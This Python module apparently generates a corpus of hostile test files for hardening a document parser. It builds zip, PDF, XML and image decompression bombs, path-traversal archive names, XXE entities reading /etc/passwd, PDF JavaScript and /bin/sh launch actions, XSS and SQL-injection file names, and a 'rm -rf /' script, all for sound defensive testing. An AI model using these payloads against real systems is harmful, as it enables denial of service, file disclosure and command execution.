"""Files that somebody made to do harm: bombs, loops, depth, entities, names, locked and forbidden kinds."""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

import seeds

Files = Iterator[tuple[str, bytes]]
MB = 1 << 20


def archives(url: str) -> Files:
    """Zip bombs, lying sizes, climbing and strange names, links, depth."""
    yield "flat-bomb.zip", seeds.packed({"a.txt": b"\x00" * (200 * MB)})
    yield "many-bombs.zip", seeds.packed({f"{i}.txt": b" " * (20 * MB) for i in range(8)})
    yield "ten-thousand.zip", seeds.packed({f"{i}.txt": b"x" for i in range(10_000)}, method=zipfile.ZIP_STORED)
    yield "lying-size.zip", lying(seeds.packed({"a.txt": b"a" * (60 * MB)}), claimed=1000)
    yield "lying-small.zip", lying(seeds.packed({"a.txt": seeds.TEXT}), claimed=5)
    yield "overlap.zip", overlapping(seeds.packed({"a.txt": b"b" * (4 * MB)}), copies=500)
    for depth in (3, 10, 60):
        yield f"depth-{depth}.zip", nested(depth)
    for number, name in enumerate(NAMES):
        yield f"name-{number}.zip", seeds.packed({name: seeds.TEXT})
    yield "twice.zip", twice()
    yield "link.zip", link()
    yield "locked.zip", flagged(seeds.packed({"cv.txt": seeds.TEXT}))
    yield "locked.docx", flagged(seeds.docx())
    yield "method.zip", seeds.packed({"cv.txt": seeds.TEXT}).replace(struct.pack("<H", 8), struct.pack("<H", 99))
    yield "empty.zip", seeds.packed({})
    yield "only-junk.zip", seeds.packed({"__MACOSX/._cv.pdf": b"x", ".DS_Store": b"y"})
    yield (
        "mixed.zip",
        seeds.packed(
            {"good.txt": seeds.TEXT, "bad.pdf": b"%PDF-1.4 nothing", "bomb.png": seeds.png_header(40_000, 40_000), "run.exe": b"MZ\x90"}
        ),
    )


NAMES = [
    "../../../var/jiufang-climbed.txt",
    "..\\..\\jiufang-climbed.txt",
    "/var/jiufang-climbed.txt",
    "C:\\jiufang-climbed.txt",
    "a/../../b.txt",
    "a\x00b.txt",
    "CON.txt",
    "a" * 4096 + ".txt",
    "cv\u202efdp.txt",
    "\ud7ff\uffff.txt",
    " .txt",
    "a//b///c.txt",
    "\n\r\t.txt",
    "'; DROP TABLE x; --.txt",
    "<script>alert(1)</script>.txt",
]


def lying(data: bytes, *, claimed: int) -> bytes:
    """Return an archive whose headers claim another size for the first entry."""
    out, at = bytearray(data), data.index(b"PK\x01\x02")
    out[22:26] = out[at + 24 : at + 28] = struct.pack("<I", claimed)
    return bytes(out)


def overlapping(data: bytes, *, copies: int) -> bytes:
    """Return an archive in which many entries share one piece of packed data (Fifield 2019)."""
    at, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    directory = data[at:end] * copies
    return data[:at] + directory + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, copies, copies, len(directory), at, 0)


def nested(depth: int) -> bytes:
    """Return an archive in an archive in an archive."""
    data = seeds.packed({"cv.txt": seeds.TEXT})
    for _ in range(depth):
        data = seeds.packed({"inner.zip": data})
    return data


def twice() -> bytes:
    """Return an archive with two entries of one name."""
    return seeds.packed({"cv1.txt": seeds.TEXT, "cv2.txt": "Li Wei"}).replace(b"cv2.txt", b"cv1.txt")


def link() -> bytes:
    """Return an archive with a symbolic link."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        entry = zipfile.ZipInfo("cv.txt")
        entry.create_system, entry.external_attr = 3, 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


def flagged(data: bytes) -> bytes:
    """Return an archive whose entries say that they are encrypted."""
    out = bytearray(data)
    for magic, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(magic)
        while at >= 0:
            out[at + place] |= 1
            at = data.find(magic, at + 4)
    return bytes(out)


def pdfs(url: str) -> Files:
    """Bombs in streams, giant pages, loops in every structure, locked files, actions."""
    zeros = zlib.compress(b"0 0 m 1 1 l S\n" * (8 * MB), 9)
    yield "content-bomb.pdf", seeds.pdf({4: seeds.stream(zeros, filters="/Filter /FlateDecode")})
    chain = zlib.compress(zlib.compress(zlib.compress(b" " * (200 * MB), 9), 9), 9)
    yield "filter-chain.pdf", seeds.pdf({4: seeds.stream(chain, filters="/Filter [/FlateDecode /FlateDecode /FlateDecode]")})
    yield "long-chain.pdf", seeds.pdf({4: seeds.stream(b"x", filters=f"/Filter [{'/ASCIIHexDecode ' * 5000}]")})
    yield "giant-page.pdf", seeds.pdf(media_box="0 0 14400 14400")
    yield "giant-pages.pdf", many_pages(40, "0 0 14400 14400")
    for number, box in enumerate(("0 0 0 0", "0 0 -5 9", "0 0 1e38 1e38", "nan 0 1 1", "0 0 0.001 14400", "900000 900000 900001 900001")):
        yield f"box-{number}.pdf", seeds.pdf(media_box=box)
    yield "page-loop.pdf", seeds.pdf({2: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"})
    yield (
        "pages-mutual.pdf",
        seeds.pdf({2: b"<< /Type /Pages /Kids [6 0 R] /Count 9 >>", 6: b"<< /Type /Pages /Kids [2 0 R] /Count 9 /Parent 2 0 R >>"}),
    )
    yield "count-lies.pdf", seeds.pdf({2: b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>"})
    yield "count-negative.pdf", seeds.pdf({2: b"<< /Type /Pages /Kids [3 0 R] /Count -4 >>"})
    yield "same-page.pdf", seeds.pdf({2: b"<< /Type /Pages /Kids [" + b"3 0 R " * 50_000 + b"] /Count 50000 >>"})
    yield "xref-loop.pdf", seeds.pdf(trailer="/Prev 9")
    yield "xref-self.pdf", self_xref(seeds.pdf())
    yield "xref-huge.pdf", seeds.pdf().replace(b"xref\n0 1\n", b"xref\n0 2000000000\n")
    yield (
        "xref-long.pdf",
        b"%PDF-1.4\nxref\n0 400000\n"
        + b"0000000009 00000 n \n" * 400_000
        + b"trailer\n<< /Size 400000 /Root 1 0 R >>\nstartxref\n9\n%%EOF",
    )
    yield "contents-loop.pdf", seeds.pdf({4: b"4 0 R"})
    yield "form-loop.pdf", form_loop()
    yield "forms-deep.pdf", forms_deep(500)
    yield "forms-wide.pdf", forms_wide(18)
    yield "length-lies.pdf", seeds.pdf({4: b"<< /Length 999999999 >>\nstream\nBT ET\nendstream"})
    yield "length-loop.pdf", seeds.pdf({4: b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream"})
    yield "deep-array.pdf", seeds.pdf({5: b"[" * 100_000 + b"]" * 100_000})
    yield "deep-content.pdf", seeds.pdf(content=b"q " * 300_000)
    yield "no-root.pdf", seeds.pdf({1: b"<< >>"})
    yield "root-null.pdf", seeds.pdf({1: b"null"})
    yield "no-pages.pdf", seeds.pdf({2: b"<< /Type /Pages /Kids [] /Count 0 >>"})
    yield (
        "type3-loop.pdf",
        seeds.pdf(
            {
                5: b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 4 0 R >> /Encoding << /Differences [90 /a] >> /FirstChar 90 /LastChar 90 /Widths [1] /Resources << /Font << /F1 5 0 R >> >> >>"
            }
        ),
    )
    yield (
        "cmap-bomb.pdf",
        seeds.pdf(
            {
                5: b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /ToUnicode 6 0 R /DescendantFonts [7 0 R] >>",
                6: seeds.stream(
                    b"1 begincodespacerange <0000> <ffff> endcodespacerange " + b"1 beginbfrange <0000> <ffff> <0041> endbfrange " * 20_000
                ),
                7: b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X >>",
            }
        ),
    )
    yield (
        "image-huge.pdf",
        with_image(
            b"/Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode", zlib.compress(b"\x00" * MB)
        ),
    )
    yield (
        "jbig2-junk.pdf",
        with_image(
            b"/Width 600 /Height 600 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode",
            b"\x00\x00\x00\x00\x30" + b"\xff" * 500,
        ),
    )
    yield "jpx-junk.pdf", with_image(b"/Width 600 /Height 600 /Filter /JPXDecode", b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\xff" * 500)
    yield (
        "dct-junk.pdf",
        with_image(
            b"/Width 600 /Height 600 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode", b"\xff\xd8\xff\xe0" + b"\x11" * 500
        ),
    )
    yield (
        "pattern-bomb.pdf",
        seeds.pdf(
            content=b"/Pattern cs /P1 scn 0 0 595 842 re f",
            objects={
                3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Pattern << /P1 6 0 R >> >> >>",
                6: seeds.stream(
                    b"0 0 .01 .01 re f",
                    filters="/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 .01 .01] /XStep .01 /YStep .01 /Resources << >>",
                ),
            },
        ),
    )
    yield "million-words.pdf", seeds.pdf(content=b"BT /F1 1 Tf " + b"1 0 0 1 9 9 Tm (abcdefghij) Tj " * 120_000 + b"ET")
    yield "million-lines.pdf", seeds.pdf(content=b"0 0 m 500 700 l S\n" * 400_000)
    yield (
        "locked.pdf",
        seeds.pdf(
            {6: b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -1 /O <" + b"41" * 32 + b"> /U <" + b"42" * 32 + b"> >>"},
            trailer="/Encrypt 6 0 R /ID [<00><00>]",
        ),
    )
    yield "locked-unknown.pdf", seeds.pdf({6: b"<< /Filter /Nobody /V 9 >>"}, trailer="/Encrypt 6 0 R /ID [<00><00>]")
    action = f"/OpenAction << /S /URI /URI ({url}open) >> /AA << /O << /S /JavaScript /JS (app.launchURL('{url}js')) >> >>".encode()
    yield "actions.pdf", seeds.pdf({1: b"<< /Type /Catalog /Pages 2 0 R " + action + b" >>"})
    yield "remote.pdf", seeds.pdf({4: f"<< /Length 0 /F << /FS /URL /F ({url}stream) >> >>\nstream\n\nendstream".encode()})
    yield "launch.pdf", seeds.pdf({1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) >> >>"})


def many_pages(count: int, box: str) -> bytes:
    """Return a PDF of many pages."""
    pages = {
        10 + i: f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>".encode()
        for i in range(count)
    }
    kids = " ".join(f"{n} 0 R" for n in pages)
    return seeds.pdf({2: f"<< /Type /Pages /Kids [{kids}] /Count {count} >>".encode(), **pages})


def self_xref(data: bytes) -> bytes:
    """Return a PDF whose cross-reference table says that its predecessor is itself."""
    start = data.rindex(b"startxref\n") + 10
    place = data[start : data.index(b"\n", start)]
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev " + place)


def form(number: int, content: bytes, inner: str) -> bytes:
    """Return a form that may draw other forms."""
    return seeds.stream(content, filters=f"/Type /XObject /Subtype /Form /BBox [0 0 500 500] /Resources << /XObject << {inner} >> >>")


def with_forms(forms: dict[int, bytes]) -> bytes:
    """Return a PDF that draws the first of the forms."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 10 0 R >> >> >>"
    return seeds.pdf({3: page, 4: seeds.stream(b"/X Do"), **forms})


def form_loop() -> bytes:
    """Return a PDF with a form that draws itself."""
    return with_forms({10: form(10, b"/X Do", "/X 10 0 R")})


def forms_deep(depth: int) -> bytes:
    """Return a PDF with a form in a form in a form."""
    return with_forms({10 + i: form(10 + i, b"/X Do", f"/X {11 + i} 0 R") for i in range(depth)})


def forms_wide(depth: int) -> bytes:
    """Return a PDF in which each form draws the next four times: billion laughs in PDF."""
    return with_forms({10 + i: form(10 + i, b"/X Do /X Do /X Do /X Do", f"/X {11 + i} 0 R") for i in range(depth)})


def with_image(about: bytes, data: bytes) -> bytes:
    """Return a PDF whose page is one picture."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /I 6 0 R >> >> >>"
    image = b"<< /Type /XObject /Subtype /Image " + about + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"
    return seeds.pdf({3: page, 4: seeds.stream(b"595 0 0 842 0 0 cm /I Do"), 6: image})


ENTITIES = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]>'
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)) + "]>"
)
BLOWUP = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>'


def office(url: str) -> Files:
    """Entities, bombs and depth in Word and OpenDocument files; remote templates; macros; damaged parts."""
    said = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
    for name, entities, call in (
        ("xxe", ENTITIES.format(url=url + "xxe"), "&e;"),
        ("file", ENTITIES.format(url="file:///etc/passwd"), "&e;"),
        ("laughs", LAUGHS, "&l9;"),
        ("quadratic", BLOWUP, "&a;" * 5_000),
    ):
        yield f"{name}.docx", seeds.docx(said.format(call), head=entities)
        yield f"{name}.odt", seeds.odt(f"<text:p>{call}</text:p>", head=entities)
    yield "dtd.docx", seeds.docx(head=f'<?xml version="1.0"?><!DOCTYPE w SYSTEM "{url}dtd">')
    yield "xml-bomb.docx", seeds.docx(said.format("a" * (200 * MB)))
    yield "runs-bomb.docx", seeds.docx("<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 1_500_000)
    yield "xml-bomb.odt", seeds.odt(f"<text:p>{' ' * (120 * MB)}</text:p>")
    yield "spaces.odt", seeds.odt('<text:p>Zhang<text:s text:c="2000000000"/>Min</text:p>')
    yield (
        "repeated.odt",
        seeds.odt(
            '<table:table xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><table:table-row table:number-rows-repeated="2000000000"><table:table-cell table:number-columns-repeated="2000000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table>'
        ),
    )
    for depth in (300, 5_000, 200_000):
        yield f"depth-{depth}.docx", seeds.docx("<w:p>" * depth + "</w:p>" * depth)
        yield f"depth-{depth}.odt", seeds.odt("<text:p>" * depth + "</text:p>" * depth)
    cell = "<w:tbl><w:tr><w:tc>"
    yield "tables-deep.docx", seeds.docx(cell * 200 + said.format("x") + "</w:tc></w:tr></w:tbl>" * 200)
    yield (
        "span.docx",
        seeds.docx(
            '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc></w:tr></w:tbl>'
        ),
    )
    yield "table-wide.docx", seeds.docx("<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>" * 30_000 + "</w:tr></w:tbl>")
    yield (
        "values.docx",
        seeds.docx(
            '<w:p><w:pPr><w:numPr><w:ilvl w:val="-9"/><w:numId w:val="x"/></w:numPr></w:pPr><w:r><w:rPr><w:sz w:val="1e99"/><w:color w:val="zz"/></w:rPr><w:t>Zhang Min</w:t></w:r></w:p>'
        ),
    )
    template = f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="{url}template.dotm" TargetMode="External"/><Relationship Id="r8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="{url}image.png" TargetMode="External"/></Relationships>'
    yield "template.docx", seeds.docx(more={"word/_rels/document.xml.rels": template})
    climbing = template.replace(f"{url}image.png", "../../../../etc/passwd").replace(' TargetMode="External"', "")
    yield "climbing.docx", seeds.docx(more={"word/_rels/document.xml.rels": climbing})
    yield "macros.docx", seeds.docx(more={"word/vbaProject.bin": b"macros"})
    yield "no-types.docx", seeds.packed({"word/document.xml": "<x/>"})
    yield (
        "no-document.docx",
        seeds.packed({"[Content_Types].xml": seeds.CONTENT_TYPES, "_rels/.rels": seeds.RELS, "word/styles.xml": "<x/>"}),
    )
    yield "not-xml.docx", seeds.docx("<w:p>&nbsp;<w:unclosed>")
    yield "empty-body.docx", seeds.docx("")
    yield (
        "binary-xml.docx",
        seeds.packed({"[Content_Types].xml": seeds.CONTENT_TYPES, "_rels/.rels": seeds.RELS, "word/document.xml": bytes(range(256)) * 50}),
    )
    yield "lying.docx", lying(seeds.docx(said.format("a" * (60 * MB))), claimed=100)
    yield "sheet.xlsx", seeds.packed({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<x/>"})
    yield "slides.pptx", seeds.packed({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<x/>"})


def markup(url: str) -> Files:
    """Web pages, rich text, Markdown, text and JSON with depth, size, entities and remote parts."""
    remote = f'<link rel=stylesheet href="{url}a.css"><img src="{url}a.png"><script src="{url}a.js"></script><iframe src="{url}"></iframe><object data="{url}o"></object><meta http-equiv=refresh content="0;{url}r">'
    yield "remote.html", seeds.html(remote + "<p>Zhang Min</p>")
    yield "xxe.html", (ENTITIES.format(url=url + "html") + "<html><body>&e;</body></html>").encode()
    yield "xxe.xml", (ENTITIES.format(url=url + "xml") + "<resume>&e;</resume>").encode()
    yield "laughs.html", (LAUGHS + "<html><body>&l9;</body></html>").encode()
    for name, tag in (("div", "div"), ("table", "table><tr><td"), ("list", "ul><li"), ("font", "b")):
        yield f"depth-{name}.html", seeds.html(f"<{tag}>" * 10_000 + "x")
    yield "depth-huge.html", seeds.html("<div>" * 1_000_000)
    yield "wide.html", seeds.html("<table><tr>" + "<td>x" * 200_000)
    yield "span.html", seeds.html("<table><tr><td colspan=2000000000 rowspan=2000000000>x</td></tr></table>")
    yield "attributes.html", seeds.html("<p " + " ".join(f"a{i}=1" for i in range(200_000)) + ">x</p>")
    yield "style.html", seeds.html(f'<p style="{"color:red;" * 200_000}">Zhang</p><style>{"p{color:red}" * 100_000}</style>')
    yield "selectors.html", seeds.html(f"<style>{'div ' * 3_000}p{{display:none}}</style>" + "<div>" * 200 + "<p>Zhang</p>")
    yield "entities.html", seeds.html("&#x110000;&#xD800;&#0;&bogus;&#99999999999;" * 500)
    yield "comment.html", b"<!DOCTYPE html><html><!--" + b"-" * 500_000
    yield "large.html", seeds.html("<p>Zhang Min worked hard.</p>" * 400_000)
    yield (
        "picture.svg",
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "{url}svg">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>'.encode(),
    )
    yield "picture.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>Zhang</text></svg>'
    yield "groups.rtf", b"{\\rtf1 " + b"{" * 200_000 + b"x" + b"}" * 200_000
    yield "unclosed.rtf", b"{\\rtf1 " + b"{\\b x" * 50_000
    yield "bin.rtf", b"{\\rtf1 \\bin2000000000 x\\bin-5 y}"
    yield "unicode.rtf", b"{\\rtf1 " + b"\\u999999999?\\u-99999?\\'zz\\uc999999999 " * 500 + b"}"
    yield "field.rtf", f'{{\\rtf1{{\\field{{\\*\\fldinst INCLUDEPICTURE "{url}rtf" }}}}{{\\object\\objdata {"41" * 50_000}}}}}'.encode()
    yield "large.rtf", b"{\\rtf1 " + b"\\par Zhang Min " * 500_000 + b"}"
    yield "lists.md", b"\n".join(b" " * (i % 4_000) + b"* x" for i in range(8_000))
    yield "quotes.md", b">" * 50_000 + b" x"
    yield "brackets.md", b"[" * 50_000 + b"x" + b"](" * 50_000
    yield "stars.md", b"*a_b" * 50_000
    yield "images.md", f"# Zhang Min\n![x]({url}md.png)\n<img src={url}md2.png>".encode()
    yield "line.txt", b"a" * (12 * MB)
    yield "lines.txt", b"\n" * (5 * MB) + b"x"
    yield "spaces.txt", (b"Zhang" + b" " * 200_000) * 5
    yield "digits.txt", b"1" * 300_000 + b"-" * 300_000
    yield "combining.txt", ("Z" + "\u0301" * 1_000_000).encode()
    yield "zero-width.txt", ("Zhang" + "\u200b" * 500_000 + "Min").encode()
    yield "rtl.txt", ("\u202e" * 5_000 + "niM gnahZ").encode()
    yield "deep.json", b"[" * 200_000 + b"]" * 200_000
    yield "deep-object.json", b'{"basics":' * 50_000 + b"1" + b"}" * 50_000
    yield "number.json", b'{"basics":{"name":' + b"9" * 100_000 + b"}}"
    yield "types.json", json.dumps({"basics": [1], "work": "x", "skills": {"a": None}, "education": [[]]}).encode()
    yield "surrogate.json", b'{"basics":{"name":"\\ud800 Zhang","email":"\\udfff"},"work":[{"name":"\\u0000"}]}'
    yield "twice.json", b'{"basics":{"name":"a"},"basics":{"name":"b"}}'
    yield "nan.json", b'{"basics":{"name":NaN,"email":Infinity}}'


def pictures(url: str) -> Files:
    """Decompression bombs, loops between frames, false sizes."""
    yield "bomb.png", seeds.png_header(40_000, 40_000, data=b"\x00" * (40_000 * 40))
    yield "just-over.png", seeds.png_header(8_000, 7_000, data=b"\x00" * (8_001 * 7_000))
    yield "size-max.png", seeds.png_header(0x7FFFFFFF, 0x7FFFFFFF)
    yield "size-zero.png", seeds.png_header(0, 0)
    yield "thin.png", seeds.png_header(40_000, 1, data=b"\x00" * 40_001)
    yield "tall.png", seeds.png_header(1, 40_000, data=b"\x00" * 80_000)
    yield (
        "text-bomb.png",
        seeds.png_header(50, 50, data=b"\x00" * 2_550, chunks=seeds.chunk(b"zTXt", b"a\x00\x00" + zlib.compress(b"a" * (100 * MB), 9))),
    )
    yield (
        "profile-bomb.png",
        seeds.png_header(50, 50, data=b"\x00" * 2_550, chunks=seeds.chunk(b"iCCP", b"a\x00\x00" + zlib.compress(b"a" * (100 * MB), 9))),
    )
    yield "blank.png", seeds.picture("PNG", (300, 300))[:60] + seeds.picture("PNG", (300, 300))[60:]
    yield "loop.tif", b"II*\x00\x08\x00\x00\x00\x00\x00\x08\x00\x00\x00"
    yield "frames.tif", frames_tif(3_000)
    yield (
        "huge.tif",
        b"II*\x00\x08\x00\x00\x00"
        + tags({256: 100_000, 257: 100_000, 258: 8, 259: 1, 262: 1, 273: 8, 278: 100_000, 279: 100})
        + b"\x00" * 100,
    )
    yield "huge.bmp", b"BM" + struct.pack("<IHHIIiiHHIIiiII", 54, 0, 0, 54, 40, 60_000, -60_000, 1, 24, 0, 0, 0, 0, 0, 0)
    yield (
        "huge.gif",
        b"GIF89a"
        + struct.pack("<HH", 65_535, 65_535)
        + b"\x80\x00\x00"
        + b"\x00" * 6
        + b","
        + struct.pack("<HHHH", 0, 0, 65_535, 65_535)
        + b"\x00\x02\x02\x44\x01\x00;",
    )
    yield "huge.webp", b"RIFF\x20\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00\xff\x3f\x00\xff\x3f\x00" + b"\x00" * 20
    yield "huge.jpg", b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01\xff\xda" + b"\x00" * 200
    yield (
        "exif.jpg",
        seeds.picture("JPEG", exif=b"Exif\x00\x00II*\x00\x08\x00\x00\x00\x01\x00\x12\x01\x03\x00\x01\x00\x00\x00\xff\xff\x00\x00"),
    )
    yield "photo.heic", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 500


def tags(values: dict[int, int], following: int = 0) -> bytes:
    """Return a TIFF directory."""
    return (
        struct.pack("<H", len(values))
        + b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in values.items())
        + struct.pack("<I", following)
    )


def frames_tif(count: int) -> bytes:
    """Return a TIFF of very many small pages."""
    size = len(tags(dict.fromkeys(range(8), 0)))
    pages = [
        tags({256: 8, 257: 8, 258: 8, 259: 1, 262: 1, 273: 8, 278: 8, 279: 64}, 8 + 64 + size * (i + 1) if i + 1 < count else 0)
        for i in range(count)
    ]
    return b"II*\x00" + struct.pack("<I", 72) + b"\x00" * 64 + b"".join(pages)


def mails(url: str) -> Files:
    """E-mails with depth, numbers, broken encodings and hostile attachments."""
    yield "bomb.eml", seeds.mail(attachments={"cv.zip": seeds.packed({"a.txt": b" " * (150 * MB)})})
    yield "attached-exe.eml", seeds.mail(attachments={"cv.pdf.exe": b"MZ" + b"\x90" * 500})
    yield (
        "climbing.eml",
        seeds.mail(attachments={"../../../../var/jiufang-climbed.txt": seeds.TEXT.encode(), "C:\\x\\cv.txt": seeds.TEXT.encode()}),
    )
    yield "many.eml", seeds.mail(attachments={f"{i}.txt": b"x" for i in range(3_000)})
    yield "deep.eml", deep_mail(300)
    yield "deeper.eml", deep_mail(5_000)
    yield "forwarded.eml", forwarded(40)
    head = b"From: a@example.com\nMIME-Version: 1.0\n"
    yield "no-boundary.eml", head + b"Content-Type: multipart/mixed\n\n--b\n\nx"
    yield "boundary-empty.eml", head + b'Content-Type: multipart/mixed; boundary=""\n\n--\n\nx\n----'
    yield "charset.eml", head + b"Content-Type: text/plain; charset=klingon\n\n" + "张敏".encode("gbk")
    yield "charset-codec.eml", head + b"Content-Type: text/plain; charset=zlib_codec\n\n" + zlib.compress(b"a" * MB)
    yield "encoding.eml", head + b"Content-Type: text/plain\nContent-Transfer-Encoding: rot13\n\nZhang Min"
    yield "base64.eml", head + b"Content-Type: application/pdf; name=cv.pdf\nContent-Transfer-Encoding: base64\n\n!!!###" + b"=" * 5_000
    yield "uuencode.eml", head + b"Content-Type: text/plain\nContent-Transfer-Encoding: x-uuencode\n\nbegin 644 x\nM!!!!\n"
    yield "header-long.eml", b"Subject: " + b"a" * (3 * MB) + b"\n" + head + b"\nZhang Min"
    yield "headers-many.eml", b"".join(b"X-A%d: b\n" % i for i in range(60_000)) + head + b"\nZhang Min"
    yield "words.eml", b"Subject: " + b"=?utf-8?q?" * 20_000 + b"\n" + head + b"\nZhang Min"
    yield (
        "name-continued.eml",
        head + b"Content-Type: application/pdf; " + b"".join(b"name*%d*=utf-8''%%ff; " % i for i in range(3_000)) + b"\n\nx",
    )
    yield "nul.eml", head + b"Content-Type: text/plain\n\nZhang\x00Min\x01\x02"
    yield (
        "external.eml",
        head + f'Content-Type: message/external-body; access-type=URL; URL="{url}mail"\n\nContent-Type: text/plain\n\n'.encode(),
    )
    yield "remote.eml", head + b"Content-Type: text/html\n\n" + seeds.html(f'<img src="{url}mail.png">Zhang Min')


def deep_mail(depth: int) -> bytes:
    """Return an e-mail of multiparts inside multiparts."""
    head = b"From: a@example.com\nMIME-Version: 1.0\n"
    return (
        head
        + b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (i, i) for i in range(depth))
        + b"Content-Type: text/plain\n\nZhang Min"
    )


def forwarded(depth: int) -> bytes:
    """Return an e-mail forwarded again and again."""
    return b"From: a@example.com\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n" * depth + b"From: b@example.com\n\nZhang Min"


def forbidden(url: str) -> Files:
    """Kinds that are never read, whatever their name says."""
    kinds = {
        "run.exe": b"MZ\x90\x00" + b"\x00" * 100,
        "cv.pdf": b"MZ\x90\x00" + b"\x00" * 100,
        "tool.docx": b"\x7fELF\x02\x01\x01" + b"\x00" * 100,
        "run.txt": b"#!/bin/sh\nrm -rf /\n",
        "A.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34",
        "app.jar": seeds.packed({"META-INF/MANIFEST.MF": "x", "A.class": "y"}),
        "cv.rar": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 50,
        "cv.7z": b"7z\xbc\xaf\x27\x1c" + b"\x00" * 50,
        "cv.tar.gz": b"\x1f\x8b\x08" + b"\x00" * 50,
        "cv.mp4": b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 50,
        "cv.mp3": b"ID3\x04" + b"\x00" * 50,
        "cv.ps": b"%!PS-Adobe-3.0\n",
        "cv.xls": seeds.ole("Workbook"),
        "cv.ppt": seeds.ole("PowerPoint Document"),
        "cv.doc": seeds.ole("WordDocument", "_VBA_PROJECT"),
        "plain.doc": seeds.ole("WordDocument", "1Table"),
        "locked-office.docx": seeds.ole("EncryptionInfo", "EncryptedPackage"),
        "cv.msg": seeds.ole("__properties_version1.0"),
        "odd.doc": seeds.ole("Contents"),
        "word2003.doc": b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>',
        "huge.txt": b"a" * (51 * MB),
        "db.pdf": b"SQLite format 3\x00" + b"\x00" * 100,
    }
    yield from kinds.items()


FAMILIES: dict[str, Callable[[str], Files]] = {
    "archives": archives,
    "pdf": pdfs,
    "office": office,
    "markup": markup,
    "pictures": pictures,
    "mail": mails,
    "forbidden kinds": forbidden,
}
